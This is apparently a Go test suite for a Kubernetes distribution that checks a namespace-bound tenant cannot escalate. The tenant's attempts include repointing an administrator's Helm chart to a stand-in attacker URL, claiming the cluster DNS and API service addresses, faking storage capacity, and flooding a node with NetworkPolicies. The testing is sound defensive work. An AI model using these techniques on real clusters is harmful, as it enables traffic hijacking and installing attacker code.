package attacks

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kedge-dev/kedge/tests/harness"
	"github.com/kedge-dev/kedge/tests/harness/cluster"
)

// tenants have all rights in the namespace tenant, and none elsewhere.
const tenants = `
apiVersion: v1
kind: Namespace
metadata: {name: tenant}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: user, namespace: tenant}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: everything, namespace: tenant}
rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: everything, namespace: tenant}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: everything}
subjects: [{kind: ServiceAccount, name: user, namespace: tenant}]
`

// tenant is a user with all rights in one namespace, and a kubeconfig.
type tenant struct{ *attacker }

// tenantKubeconfig is the path of that kubeconfig. Without one kubectl uses the administrator's.
const tenantKubeconfig = "/etc/kedge/tenant.yaml"

// newTenant makes the namespace and its user.
func newTenant(c *cluster.Cluster) *tenant {
	c.Helper()
	apply(c, "tenant", tenants)
	u := &tenant{on(c, c.Server.Host)}
	u.host.WriteFile(tenantKubeconfig, fmt.Sprintf(`
apiVersion: v1
kind: Config
clusters: [{name: kedge, cluster: {server: %q, certificate-authority: /var/lib/kedge/server/tls/server-ca.crt}}]
users: [{name: user, user: {token: %q}}]
contexts: [{name: user, context: {cluster: kedge, user: user, namespace: tenant}}]
current-context: user
`, u.url(""), c.Kubectl("create", "token", "user", "--namespace=tenant")))
	return u
}

// apply creates or changes the objects of a YAML text in a namespace, as the administrator.
func apply(c *cluster.Cluster, namespace, text string) {
	c.Helper()
	// Just after the start not all kinds may be known yet.
	c.Eventually("objects to be applied", func() error {
		_, err := c.TryKubectl(text, "apply", "--namespace="+namespace, "-f", "-")
		return err
	})
}

// kubectl runs kubectl in the user's namespace and returns its whole output.
func (u *tenant) kubectl(input string, args ...string) (string, error) {
	u.Helper()
	ctx, cancel := context.WithTimeout(u.Context(), cluster.Patience)
	defer cancel()
	cmd := u.host.Kedge(ctx, append([]string{"kubectl", "--kubeconfig=" + tenantKubeconfig, "--request-timeout=30s"}, args...)...)
	cmd.Stdin = strings.NewReader(input)
	output, err := cmd.CombinedOutput()
	if err != nil {
		err = fmt.Errorf("%w: %s", err, output)
	}
	return strings.TrimSpace(string(output)), err
}

// helmObject returns a HelmChart or a HelmChartConfig that installs nothing.
func helmObject(kind, namespace, name string) string {
	return fmt.Sprintf("apiVersion: helm.cattle.io/v1\nkind: %s\nmetadata: {name: %s, namespace: %s}\nspec: {valuesContent: \"a: 1\"}\n", kind, name, namespace)
}

// TestHelmCharts lets a user of one namespace install charts, which kedge would do with all rights.
func TestHelmCharts(t *testing.T) {
	t.Parallel()
	harness.Require(t)
	c := cluster.Start(t, harness.NewNetwork(t))
	u := newTenant(c)
	apply(c, "tenant", helmObject("HelmChart", "tenant", "admins"))
	for _, attempt := range []struct {
		what string
		args []string
	}{
		{"have nobody look after a HelmChart", []string{"annotate", "helmchart", "admins", "helmcharts.helm.cattle.io/unmanaged=true"}},
		{"change an administrator's HelmChart", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"spec": {"chart": "https://attacker.example/chart.tgz"}}`}},
		{"say where the release of a HelmChart is", []string{"patch", "helmchart", "admins", "--type=merge", "--subresource=status", `--patch={"status": {"namespace": "kube-system"}}`}},
		{"take a HelmChart's finalizers", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"finalizers": null}}`}},
		{"have a HelmChart deleted with an owner", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "0"}]}}`}},
		{"make a HelmChart that would not be written", []string{"create", "--dry-run=server", "-f", "-"}},
		{"make a HelmChart", []string{"create", "-f", "-"}},
		{"make a HelmChart by a server-side apply", []string{"apply", "--server-side", "--force-conflicts", "-f", "-"}},
		{"make a HelmChart in the control plane's namespace", []string{"create", "--namespace=kube-system", "-f", "-"}},
		{"uninstall a release of another namespace", []string{"delete", "helmchart", "admins", "--wait=false"}},
		{"uninstall releases of other namespaces", []string{"delete", "helmcharts", "--all", "--wait=false"}},
	} {
		namespace := "tenant"
		if slices.Contains(attempt.args, "--namespace=kube-system") {
			namespace = "kube-system"
		}
		output, err := u.kubectl(helmObject("HelmChart", namespace, "evil"), attempt.args...)
		u.wantForbidden(attempt.what, output, err)
	}
	output, err := u.kubectl(helmObject("HelmChartConfig", "tenant", "admins"), "create", "-f", "-")
	u.wantForbidden("change an administrator's HelmChart by a HelmChartConfig", output, err)

	// With rights in kube-system RBAC decides, as in k3s.
	c.Kubectl("create", "role", "charts", "--namespace=kube-system", "--verb=create,get,delete", "--resource=helmcharts.helm.cattle.io")
	c.Kubectl("create", "rolebinding", "charts", "--namespace=kube-system", "--role=charts", "--serviceaccount=tenant:user")
	if output, err := u.kubectl(helmObject("HelmChart", "kube-system", "allowed"), "create", "--namespace=kube-system", "-f", "-"); err != nil {
		t.Errorf("a user whom RBAC allows to write HelmCharts in kube-system was refused: %s", output)
	}
	// A user with all rights may do this, and a namespace is deleted together with its charts.
	apply(c, "tenant", helmObject("HelmChartConfig", "tenant", "admins"))
	c.Kubectl("delete", "namespace", "tenant", "--timeout="+cluster.Patience.String())
}

// TestSelectedNode lets a user of one namespace choose the node of claims, which would take space there
// without a pod.
func TestSelectedNode(t *testing.T) {
	t.Parallel()
	harness.Require(t)
	c := cluster.Start(t, harness.NewNetwork(t))
	u := newTenant(c)
	const chosen = `{` + selectedNode + `: server-1, volume.kubernetes.io/storage-provisioner: local.kedge.dev}`
	wantIgnored := func(what, claim string) {
		t.Helper()
		found, err := c.Client.CoreV1().PersistentVolumeClaims("tenant").Get(t.Context(), claim, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if node := found.Annotations[selectedNode]; node != "" {
			t.Errorf("a claim's author chose node %s by %s", node, what)
		}
	}
	must := func(input string, args ...string) string {
		t.Helper()
		output, err := u.kubectl(input, args...)
		if err != nil {
			t.Fatal(err)
		}
		return output
	}
	// An exported claim is accepted nevertheless.
	if output := must(claimYAML("tenant", "created", chosen), "apply", "-f", "-"); !strings.Contains(output, "Warning") || !strings.Contains(output, selectedNode) {
		t.Errorf("no warning that the node is ignored: %s", output)
	}
	wantIgnored("creating a claim", "created")
	must("", "annotate", "pvc", "created", selectedNode+"=server-1")
	wantIgnored("annotating a claim", "created")
	must("", "patch", "pvc", "created", "--subresource=status", "--type=merge", fmt.Sprintf(`--patch={"metadata": {"annotations": {%q: "server-1"}}}`, selectedNode))
	wantIgnored("a claim's status", "created")
	must(claimYAML("tenant", "applied", chosen), "apply", "--server-side", "-f", "-")
	wantIgnored("a server-side apply", "applied")
	// Controllers make claims as users ask.
	must(`
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: web, namespace: tenant}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      nodeSelector: {attacker.example/node: none}
      containers: [{name: main, image: none}]
  volumeClaimTemplates:
  - metadata: {name: data, annotations: `+chosen+`}
    spec: {storageClassName: local, accessModes: [ReadWriteOnce], resources: {requests: {storage: 64Mi}}}
`, "create", "-f", "-")
	must(`
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: tenant}
spec:
  nodeSelector: {attacker.example/node: none}
  containers: [{name: main, image: none}]
  volumes:
  - name: data
    ephemeral:
      volumeClaimTemplate:
        metadata: {annotations: `+chosen+`}
        spec: {storageClassName: local, accessModes: [ReadWriteOnce], resources: {requests: {storage: 64Mi}}}
`, "create", "-f", "-")
	for what, claim := range map[string]string{"a StatefulSet": "data-web-0", "a pod": "web-data"} {
		c.Eventually("the claim of "+what, func() error {
			_, err := c.Client.CoreV1().PersistentVolumeClaims("tenant").Get(t.Context(), claim, metav1.GetOptions{})
			return err
		})
		wantIgnored(what, claim)
	}
	// The scheduler believes capacities in any namespace.
	output, err := u.kubectl(`
apiVersion: storage.k8s.io/v1
kind: CSIStorageCapacity
metadata: {name: lie, namespace: tenant}
storageClassName: local
capacity: 100Ti
nodeTopology: {matchLabels: {local.kedge.dev/node: server-1}}
`, "create", "-f", "-")
	u.wantForbidden("say what room a node has", output, err)
	// With a pod the scheduler chooses the node, and the volume is made.
	must(strings.Replace(userYAML("created", "server-1"), "{name: created}", "{name: created, namespace: tenant}", 1), "create", "-f", "-")
	c.Eventually("the volume of a claim with a pod", func() error {
		claim, err := c.Client.CoreV1().PersistentVolumeClaims("tenant").Get(t.Context(), "created", metav1.GetOptions{})
		if err == nil && claim.Status.Phase != corev1.ClaimBound {
			err = errors.New("it is " + string(claim.Status.Phase))
		}
		return err
	})
}

// TestServiceAddresses lets a user of one namespace take the addresses by which all pods find the
// cluster's DNS and its API.
func TestServiceAddresses(t *testing.T) {
	t.Parallel()
	harness.Require(t)
	c := cluster.Start(t, harness.NewNetwork(t))
	u := newTenant(c)
	service := func(name, external string) string {
		return fmt.Sprintf("apiVersion: v1\nkind: Service\nmetadata: {name: %s}\nspec: {type: LoadBalancer, externalIPs: [%s], ports: [{name: dns, port: 53, protocol: UDP}, {name: api, port: 443}]}\n", name, external)
	}
	for what, address := range map[string]string{"answer for the cluster's DNS": "10.43.0.10", "answer for the API": "10.43.0.1"} {
		output, err := u.kubectl(service("thief-"+address[len("10.43.0."):], address), "create", "-f", "-")
		u.wantForbidden(what, output, err)
	}
	// Addresses outside the cluster are treated as upstream does.
	if output, err := u.kubectl(service("honest", "192.0.2.1"), "create", "-f", "-"); err != nil {
		t.Fatalf("a Service may have no external address: %s", output)
	}
	for what, patch := range map[string][]string{
		"take it later":              {`--patch={"spec": {"externalIPs": ["10.43.0.10"]}}`},
		"take it as a load balancer": {"--subresource=status", `--patch={"status": {"loadBalancer": {"ingress": [{"ip": "10.43.0.10"}]}}}`},
	} {
		output, err := u.kubectl("", append([]string{"patch", "service", "honest", "--type=merge"}, patch...)...)
		u.wantForbidden(what, output, err)
	}
}

// TestNetworkPolicyWarning checks the warning to a user who expects a NetworkPolicy to protect pods, in a cluster
// whose settings say that nothing enforces it.
func TestNetworkPolicyWarning(t *testing.T) {
	t.Parallel()
	harness.Require(t)
	c := cluster.Start(t, harness.NewNetwork(t), "--disable-network-policy")
	u := newTenant(c)
	output, err := u.kubectl("apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: none}\nspec: {podSelector: {}}\n", "create", "-f", "-")
	if err != nil || !strings.Contains(output, "Warning") || !strings.Contains(output, "not enforce") {
		t.Errorf("no warning that nothing enforces a NetworkPolicy: %s, %v", output, err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), cluster.Patience)
	defer cancel()
	status, err := c.Server.Host.Kedge(ctx, "status").Output()
	if err != nil || !strings.Contains(string(status), "NetworkPolic") {
		t.Errorf("kedge status does not tell of NetworkPolicies: %v\n%s", err, status)
	}
}

// manyPorts is a NetworkPolicy with single ports, none next to another, each for all addresses of some pods.
// rest is the rest of its spec, with the word PORTS where the ports go.
func manyPorts(name string, first, count int, rest string) string {
	ports := make([]string, count)
	for i := range ports {
		ports[i] = fmt.Sprintf("{port: %d}", first+2*i)
	}
	return fmt.Sprintf("apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: %s}\nspec: {%s}\n", name, strings.Replace(rest, "PORTS", strings.Join(ports, ", "), 1))
}

// TestPoliciesFillANode lets a user of one namespace write NetworkPolicies that together do not fit a node. Each
// is smaller than that of a victim in another namespace. The attacker's own pods lose their connections, and
// not the victim.
func TestPoliciesFillANode(t *testing.T) {
	t.Parallel()
	harness.Require(t)
	c := cluster.Start(t, harness.NewNetwork(t))
	u := newTenant(c)
	c.RunWeb("friend", "server-1")
	victim := c.RunWeb("victim", "server-1")
	pods := []string{"a", "b", "c", "d"}
	for _, pod := range pods {
		apply(c, "tenant", webPod("tenant", pod, "server-1"))
	}
	c.Kubectl("wait", "--namespace=tenant", "pod", "--all", "--for=condition=Ready", "--timeout="+cluster.Patience.String())
	// The policy of the victim is for the six addresses of all pods: 42,000 pairs of an address and a port.
	largest := manyPorts("largest", 80, 7000, "podSelector: {}, policyTypes: [Ingress], ingress: [{from: [{namespaceSelector: {}}], ports: [PORTS]}]")
	if _, err := c.TryKubectl(largest, "create", "-f", "-"); err != nil {
		t.Fatal(err)
	}
	at := "http://" + net.JoinHostPort(victim.Status.PodIP, cluster.WebPort) + "/"
	c.Answers("friend", at, "victim")

	// 36,000 pairs each, 288,000 together. A node takes 250,000.
	for i, pod := range pods {
		for direction, peers := range map[string]string{"Ingress": "from", "Egress": "to"} {
			policy := manyPorts(strings.ToLower(direction)+"-"+pod, 80+i, 9000, fmt.Sprintf(
				"podSelector: {matchLabels: {app: %s}}, policyTypes: [%s], %s: [{%s: [{podSelector: {}}], ports: [PORTS]}]", pod, direction, strings.ToLower(direction), peers))
			if output, err := u.kubectl(policy, "create", "-f", "-"); err != nil {
				t.Fatalf("a large policy cannot be made: %v: %.1000s", err, output)
			}
		}
	}
	closed := func(namespace string) map[string]bool {
		events, err := c.Client.CoreV1().Events(namespace).List(t.Context(), metav1.ListOptions{FieldSelector: "reason=NetworkPolicyTooLarge"})
		if err != nil {
			t.Fatal(err)
		}
		names := map[string]bool{}
		for _, event := range events.Items {
			names[event.InvolvedObject.Name] = true
		}
		return names
	}
	// Three of their eight parts have to go, which are of two pods at least.
	c.Eventually("two pods of the attacker to be closed", func() error {
		if names := closed("tenant"); len(names) < 2 {
			return fmt.Errorf("closed are %v", names)
		}
		return nil
	})
	c.Answers("friend", at, "victim")
	if names := closed(cluster.Namespace); len(names) > 0 {
		t.Errorf("pods of others are closed: %v", names)
	}
}
